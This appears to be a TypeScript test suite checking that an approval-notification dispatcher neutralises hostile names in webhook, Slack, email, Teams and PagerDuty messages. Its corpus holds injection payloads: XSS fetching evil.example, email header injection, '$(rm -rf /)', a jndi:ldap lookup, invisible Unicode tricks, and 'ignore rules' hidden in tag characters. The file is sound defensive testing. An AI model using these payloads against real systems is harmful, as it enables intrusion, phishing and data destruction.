import { approver, holdRequest } from "../../support/approvals/test-approvals.ts";
import { binding } from "../../support/builders.ts";
import { type EveryChannel, everyChannel, textsIn } from "../../support/channels/every-channel.ts";
import { consoleUrl, testDispatcher } from "../../support/channels/test-dispatcher.ts";

/** Names as a caller, a token or an identity provider could choose them, to do something to who reads or relays them. */
const corpus: readonly (readonly [what: string, name: string])[] = [
  ["HTML", '<img src=x onerror="fetch(`//evil.example`)"><script>alert(1)</script>'],
  ["an HTML link", '<a href="https://evil.example/approve">approve here</a>'],
  ["an attribute's end", `" onmouseover="alert(1)" x='`],
  ["HTML entities", "&lt;b&gt;bold&lt;/b&gt; &#106;avascript"],
  ["a Markdown link", "[approve](https://evil.example/approve)"],
  ["Markdown", "**bold** _it_ `code` # head > quote | table | ~~gone~~ ![x](https://evil.example/p.png)"],
  ["a Slack link", "<https://evil.example/approve|Approve>"],
  ["Slack mentions", "<!channel> <!here> <!everyone> <@U0123> <#C0123> <!subteam^S0123>"],
  ["Slack markup", "*bold* _it_ ~gone~ `code` ```block``` :tada: &amp;"],
  ["plain mentions", "@channel @here @everyone @security"],
  ["a Teams mention", "<at>Everyone</at> {{DATE(2026-01-01T00:00:00Z, SHORT)}} ${expr} @{triggerBody()}"],
  ["a web address", "https://evil.example/approve?id=1"],
  ["a web address without a scheme", "www.evil.example/approve or evil.example/approve"],
  ["another scheme", "javascript:alert(1) data:text/html;base64,x slack://open tel:+1234567"],
  ["line ends", "refund-bot\r\nBcc: everyone@evil.example\r\n\r\nbody"],
  ["a line feed and a dot", "refund-bot\n.\nQUIT\nMAIL FROM:<x@evil.example>"],
  ["an encoded word", "=?utf-8?B?SGVsbG8KQmNjOiBldmlsQGV2aWwuZXhhbXBsZQ==?="],
  ["other line ends", "a\u2028b\u2029c\u0085d\u000be\u000cf"],
  ["a turned direction", "invoice\u202egpj.exe\u2066\u2069\u200f"],
  ["letters written from right to left", "\u05d0\u05d1\u05d2 123 \u0645\u0631\u062d\u0628\u0627"],
  ["zero-width letters", "pay\u200bpal\u2060\ufeff\u00ad"],
  [
    "tag letters",
    `fine${[..."ignore rules"].map((one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0))).join("")}`,
  ],
  ["terminal escapes", "\u001b[2J\u001b]0;owned\u0007\u009b31m"],
  ["NUL and letters of private use", "a\u0000b\ue000c\ufdd0"],
  ["a very long name", `${"long ".repeat(50_000)}end`],
  ["shell and template words", "$(rm -rf /) `id` {{7*7}} #{7*7} %s%n ${jndi:ldap://evil.example/a}"],
  ["JSON", '"}],"channel":"C0EVIL","text":"x'],
];

/** Whatever moves, hides or ends text; a line end of our own is the only one. */
const unseen = /[\p{Cc}\p{Cf}\p{Co}\p{Cn}\p{Cs}\p{Zl}\p{Zp}]/u;
const link = /^https:\/\/console\.example\/approvals\/a_[\w-]+$/;

let far: EveryChannel;
beforeAll(async () => {
  far = await everyChannel();
});
afterAll(() => far.close());
beforeEach(() => far.forget());

/** Asked and denied under such a name, wherever a name can stand. */
async function tellAll(name: string) {
  const room = testDispatcher({ settings: far.settings, secrets: far.secrets });
  const item = await room.holds.open(
    holdRequest({
      binding: {
        ...binding(),
        subject: { issuer: name, id: name, key: null },
        acting_for: `for ${name}`,
        tool: `payments/${name}`,
      },
      reasons: [{ code: name, message: name, rule: name, severity: "high", controls: [] }],
    }),
  );
  await room.dispatcher.run();
  await room.service.vote(
    item.id,
    item.action_digest,
    { ...approver, name: `person ${name}` },
    { vote: "deny", reason: name },
  );
  await room.dispatcher.run();
  expect(room.log).toEqual([]);
  expect((await room.outbox.of(item.id)).map(({ state }) => state)).toEqual(far.settings.map(() => "closed"));
}

function bodies(adapter: Parameters<EveryChannel["posted"]>[0]): Record<string, unknown>[] {
  const all = far.posted(adapter).map(({ body }) => JSON.parse(body.toString("utf8")) as Record<string, unknown>);
  expect(all).toHaveLength(2);
  return all;
}

describe.each(corpus)("a name that is %s", (_what, name) => {
  beforeEach(() => tellAll(name));

  test("comes out inert in every channel", () => {
    inertWebhook();
    inertSlack();
    inertMail();
    inertTeams();
    inertPagerDuty();
  });
});

function inertWebhook(): void {
  for (const { path, text } of bodies("hook").flatMap((body) => textsIn(body))) {
    expect(text).not.toMatch(unseen);
    expect([...text].length).toBeLessThanOrEqual(200);
    if (path === "data.link") expect(text).toMatch(link);
  }
}

/** Names stand in literal elements; the fallback text holds nothing that Slack would read. */
function inertSlack(): void {
  for (const body of bodies("api")) {
    const kinds = textsIn(body["blocks"])
      .filter(({ path }) => path.endsWith(".type"))
      .map(({ text }) => text);
    expect(new Set(kinds)).toEqual(new Set(["header", "plain_text", "rich_text", "rich_text_section", "text", "link"]));
    expect(body).toMatchObject({ channel: "C0123", parse: "none", link_names: false, mrkdwn: false });
    expect(body["text"]).not.toMatch(/[<>]|:\/\/|(?<!\w)@\w/);
    for (const { path, text } of textsIn(body)) {
      expect(text.replaceAll("\n", "")).not.toMatch(unseen);
      if (path.endsWith(".url")) expect(text).toMatch(link);
    }
  }
}

function inertMail(): void {
  expect(far.mails).toHaveLength(2);
  for (const { to, raw, email } of far.mails) {
    expect(to).toEqual(["a@corp.example"]);
    const head = raw.slice(0, raw.indexOf("\r\n\r\n"));
    const names = head.split(/\r\n(?![ \t])/).map((line) => line.slice(0, line.indexOf(":")).toLowerCase());
    expect(names.filter((one) => !knownHeaders.has(one))).toEqual([]);
    expect(email.to?.map(({ address }) => address)).toEqual(["a@corp.example"]);
    expect(email.subject).not.toMatch(unseen);
    expect(email.subject).toMatch(/^(Re: )?\[gw-1\] Approval needed: payments\//);
    const text = email.text ?? "";
    expect(text.replaceAll("\n", "")).not.toMatch(unseen);
    expect(text.match(/\S*:\/\/\S*/g)).toEqual([expect.stringMatching(link)]);
    expect(text).not.toMatch(/(?<![\w.[\]])@\w|(?<!@)\bevil\.example|www\./);
    inertHtml(email.html ?? "");
  }
}

const knownHeaders = new Set([
  ...["from", "to", "subject", "message-id", "in-reply-to", "references", "date", "mime-version", "content-type"],
  ...["auto-submitted", "x-auto-response-suppress"],
]);

/** Our own tags and nothing else; what is left after them is text without a single bracket. */
function inertHtml(html: string): void {
  const own =
    /<!doctype html>|<\/?(html|body|h1|bdi|table|tr|td|p)( (style|lang|role)="[\w #:;%,-]*")*>|<a href="[^"]*">|<\/a>/g;
  expect(html.replace(own, "")).not.toMatch(/[<>]/);
  expect([...html.matchAll(/<a href="([^"]*)">/g)].map(([, url]) => url)).toEqual([expect.stringMatching(link)]);
  expect(html.replaceAll("\n", "")).not.toMatch(unseen);
}

/** Text runs know no Markdown; there are no mentions, and one way out. */
function inertTeams(): void {
  for (const body of bodies("workflow")) {
    const texts = textsIn(body);
    const kinds = texts.filter(({ path }) => path.endsWith(".type")).map(({ text }) => text);
    expect(new Set(kinds)).toEqual(new Set(["AdaptiveCard", "RichTextBlock", "TextRun", "Action.OpenUrl"]));
    expect(JSON.stringify(body)).not.toMatch(/"entities"|\{\{/);
    for (const { path, text } of texts) {
      expect(text).not.toMatch(unseen);
      if (path.endsWith(".url")) expect(text).toMatch(link);
      else if (!path.endsWith("$schema")) expect(text).not.toContain("://");
    }
  }
}

function inertPagerDuty(): void {
  const [trigger, resolve] = bodies("pagerduty");
  expect(Object.keys(resolve ?? {}).toSorted()).toEqual(["dedup_key", "event_action", "routing_key"]);
  for (const { path, text } of textsIn(trigger)) {
    expect(text).not.toMatch(unseen);
    if (path === "client_url" || path.endsWith(".href")) expect(text).toMatch(link);
    else expect(text).not.toMatch(/:\/\/|(?<![\w.[\]])@\w/);
    if (path === "payload.summary") expect(text.length).toBeLessThanOrEqual(1_024);
  }
}

test("the only address in any message is the page of the item", async () => {
  await tellAll("refund-bot");
  const all = [
    ...["hook", "api", "workflow", "pagerduty"].flatMap((one) =>
      far.posted(one as "hook").map(({ body }) => body.toString("utf8")),
    ),
    ...far.mails.flatMap(({ email: { text, html } }) => [text ?? "", html ?? ""]),
  ].join("\n");
  const addresses = new Set([...all.matchAll(/https?:\/\/[^\s"<\\]+/g)].map(([address]) => address));
  addresses.delete("http://adaptivecards.io/schemas/adaptive-card.json");
  expect(addresses.size).toBe(1);
  expect([...addresses][0]).toMatch(new RegExp(`^${consoleUrl}/approvals/a_`));
});
